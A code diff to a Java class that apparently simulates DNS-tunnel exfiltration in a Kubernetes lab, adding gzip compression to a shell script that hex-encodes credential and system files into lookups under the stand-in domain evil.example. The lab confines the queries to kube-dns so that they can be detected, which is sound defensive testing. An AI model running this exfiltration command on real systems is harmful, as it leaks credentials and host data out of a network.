@@ -10,8 +10,9 @@ import java.util.regex.Pattern;
 
 /**
  * {@code dns-tunnel}: data carried out in DNS names, through the cluster DNS. In the source
- * container a busybox shell hex-encodes files ({@link #FILES}: the database credentials where
- * mounted, passwd, group, host and resolver files) into {@value #LABEL_LENGTH}-character labels and looks up
+ * container a busybox shell compresses files ({@link #FILES}: the database credentials where
+ * mounted, passwd, group, host and resolver files) with gzip, as tunnel tools compress or encrypt,
+ * and hex-encodes them into {@value #LABEL_LENGTH}-character labels and looks up
  * {@code <chunk>.<n>.t.evil.example.} for each, then polls with a burst of {@value #TXT_BURST} TXT
  * queries for {@code <random>.<n>.c.t.evil.example.}. kube-dns answers NXDOMAIN for that zone
  * (nothing is forwarded off the lab). The effect: kube-dns logged every one of those queries from
@@ -23,7 +24,7 @@ final class DnsTunnel implements Technique {
     /** Characters of encoded data per label (DNS allows 63). */
     static final int LABEL_LENGTH = 60;
     /** TXT queries in the polling burst. */
-    static final int TXT_BURST = 20;
+    static final int TXT_BURST = 25;
     /** Longest wait for kube-dns's log to show every query. */
     static final java.time.Duration LOG_WAIT = java.time.Duration.ofSeconds(3);
 
@@ -41,13 +42,13 @@ final class DnsTunnel implements Technique {
                 dns.container().name() + ".log");
         run.check(Files.isRegularFile(log), "kube-dns's query log " + log + " is missing");
         long offset = Files.size(log);
-        String script = "n=0; for c in $(cat " + String.join(" ", FILES) + " 2>/dev/null | od -An -v -tx1 | tr -d ' \\n' | fold -w " + LABEL_LENGTH + "); do n=$((n+1));"
+        String script = "n=0; for c in $(cat " + String.join(" ", FILES) + " 2>/dev/null | gzip -c | od -An -v -tx1 | tr -d ' \\n' | fold -w " + LABEL_LENGTH + "); do n=$((n+1));"
                 + " nslookup $c.$n." + DOMAIN + ". >/dev/null 2>&1; done;"
                 + " t=0; while [ $t -lt " + TXT_BURST + " ]; do t=$((t+1));"
                 + " r=$(head -c 16 /dev/urandom | od -An -tx1 | tr -d ' \\n');"
                 + " nslookup -type=txt $r.$t.c." + DOMAIN + ". >/dev/null 2>&1; done; echo sent $n $t";
         AttackRun.Ran tunnel = run.command(from, "sh", "-c", script)
-                .run("DNS tunnel: hex-encoded files as labels under " + DOMAIN + ", then " + TXT_BURST + " TXT polls");
+                .run("DNS tunnel: gzipped files, hex-encoded, as labels under " + DOMAIN + ", then " + TXT_BURST + " TXT polls");
         Matcher sent = SENT.matcher(tunnel.stdout());
         run.check(sent.find(), "the tunnel script did not finish: " + tunnel.stdout());
         int names = Integer.parseInt(sent.group(1));
